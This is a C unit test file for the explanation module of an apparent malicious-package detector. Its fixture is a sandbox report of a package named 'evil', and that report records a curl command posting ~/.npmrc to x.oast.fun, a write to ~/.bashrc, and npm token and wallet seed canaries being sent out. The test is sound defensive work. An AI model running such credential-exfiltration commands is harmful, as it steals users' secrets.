/* Explanations name the evidence behind a feature. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <jansson.h>

#include "explain/explain.h"
#include "features/features.h"

static const char REPORT[] =
	"{\"schema\":\"snare.report/1\",\"package\":{\"name\":\"evil\",\"version\":\"1.0.0\"},"
	"\"environment\":{\"home\":\"/home/alex\",\"user\":\"alex\",\"hostname\":\"h\"},"
	"\"phases\":[{\"name\":\"install\",\"status\":\"ok\","
	"\"commands\":[{\"path\":\"/usr/bin/curl\",\"argv\":[\"curl\",\"-d\",\"@/home/alex/.npmrc\",\"x.oast.fun\"],\"result\":0}],"
	"\"files\":[{\"path\":\"/home/alex/.npmrc\",\"flags\":[\"read\"],\"failed\":[]},"
	"{\"path\":\"/home/alex/.bashrc\",\"flags\":[\"write\"],\"failed\":[]}],"
	"\"dns\":[{\"hostname\":\"x.oast.fun\",\"types\":[\"A\"]}],"
	"\"sockets\":[{\"syscall\":\"connect\",\"address\":\"198.18.0.1\",\"port\":443,\"hostnames\":[\"x.oast.fun\"]}],"
	"\"sent\":[{\"hostname\":\"x.oast.fun\",\"address\":\"198.18.0.1\",\"port\":443,\"size\":120,\"kind\":\"tls\"}],"
	"\"canary_hits\":[{\"canary\":\"npm_token\",\"where\":\"sent\",\"encoding\":\"base64\",\"hostname\":\"x.oast.fun\",\"port\":443}],"
	"\"signals\":[],\"denied\":[],\"timeline\":[]},"
	"{\"name\":\"execute\",\"status\":\"ok\",\"commands\":[],\"files\":[],\"dns\":[],\"sockets\":[],\"sent\":[],"
	"\"canary_hits\":[{\"canary\":\"wallet_seed\",\"where\":\"sent\",\"encoding\":\"plain\",\"hostname\":\"rpc.w.test\",\"port\":80,"
	"\"call\":\"Wallet.fromSecret()\"}],\"signals\":[],\"denied\":[],\"timeline\":[]}]}";

static json_t *report;

static int setup(void **state)
{
	json_error_t je;
	(void)state;
	report = json_loads(REPORT, 0, &je);
	return report ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	json_decref(report);
	return 0;
}

static void check(const char *feature, const char *want)
{
	char *got = explain_feature(report, feature, 1);
	assert_string_equal(got, want);
	free(got);
}

static void test_canary(void **state)
{
	(void)state;
	check("install.canary_cred", "sends npm_token (base64) to x.oast.fun:443 [install]");
	/* the execute phase names the call that did it */
	check("execute.canary_wallet",
	      "sends wallet_seed (plain) to rpc.w.test:80 (execute: Wallet.fromSecret()) [execute]");
}

static void test_reads_then_contacts(void **state)
{
	(void)state;
	check("install.net_after_read", "reads ~/.npmrc, then contacts x.oast.fun:443 [install]");
	check("install.read_cred", "reads ~/.npmrc [install]");
}

static void test_writes_and_dns(void **state)
{
	(void)state;
	check("install.write_persist", "writes ~/.bashrc [install]");
	check("install.dns_service", "looks up x.oast.fun [install]");
	check("install.conn_count", "connects to x.oast.fun:443 [install]");
	check("install.conn_hosts", "connects to x.oast.fun:443 [install]");
}

static void test_baseline(void **state)
{
	(void)state;
	char *got = explain_feature(report, "n_commands", 1);
	assert_string_equal(got, "runs 1 commands: curl");
	free(got);
}

static void test_verdict_direction(void **state)
{
	size_t n = features_count();
	float *x = calloc(n, sizeof(float)), *c = calloc(n + 1, sizeof(float));
	(void)state;
	c[features_index("install.canary_cred")] = 3.0f;
	x[features_index("install.canary_cred")] = 1;
	x[features_index("install.dns_service")] = 1;
	x[features_index("n_commands")] = 1;
	c[features_index("install.dns_service")] = 1.0f;
	c[features_index("n_commands")] = -0.5f;
	json_t *v = explain_verdict(report, x, c, 0.98f, 0.5, 5);
	assert_string_equal(json_string_value(json_object_get(v, "label")), "malicious");
	json_t *ex = json_object_get(v, "explanations");
	assert_int_equal(json_array_size(ex), 2); /* only contributions toward the verdict */
	assert_string_equal(json_string_value(json_object_get(json_array_get(ex, 0), "feature")),
			    "install.canary_cred");
	json_decref(v);
	free(x);
	free(c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_canary),
		cmocka_unit_test(test_reads_then_contacts),
		cmocka_unit_test(test_writes_and_dns),
		cmocka_unit_test(test_baseline),
		cmocka_unit_test(test_verdict_direction),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
